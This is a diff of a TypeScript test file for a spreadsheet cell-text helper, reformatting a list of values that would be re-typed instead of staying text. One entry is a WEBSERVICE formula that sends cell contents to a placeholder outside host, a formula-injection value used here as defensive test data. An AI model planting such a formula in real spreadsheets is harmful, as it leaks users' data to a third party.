@@ -1,10 +1,25 @@
 import fc from 'fast-check';
 import { asTyped, toCellText, wouldBeRetyped } from '../../src/workbook/cellText';
 
-test.each(['=WEBSERVICE("https://x/?"&A1)', '+1', '-1', '@SUM(A1)', "'quoted", '4.10', '1E5', '2026-11-23', '3/4', '1-2', 'Jan 5', 'März 2026', 'TRUE', 'wahr', '#N/A ', '10:30', '€5'])(
-  'P13 P14 %j would not stay text by itself',
-  (text) => expect(wouldBeRetyped(text)).toBe(true),
-);
+test.each([
+  '=WEBSERVICE("https://x/?"&A1)',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  "'quoted",
+  '4.10',
+  '1E5',
+  '2026-11-23',
+  '3/4',
+  '1-2',
+  'Jan 5',
+  'März 2026',
+  'TRUE',
+  'wahr',
+  '#N/A ',
+  '10:30',
+  '€5',
+])('P13 P14 %j would not stay text by itself', (text) => expect(wouldBeRetyped(text)).toBe(true));
 
 test.each(['OpenAI', 'approved by finance', 'Mistral Large', 'naïve', '(draft)'])('%j stays text by itself', (text) =>
   expect(wouldBeRetyped(text)).toBe(false),
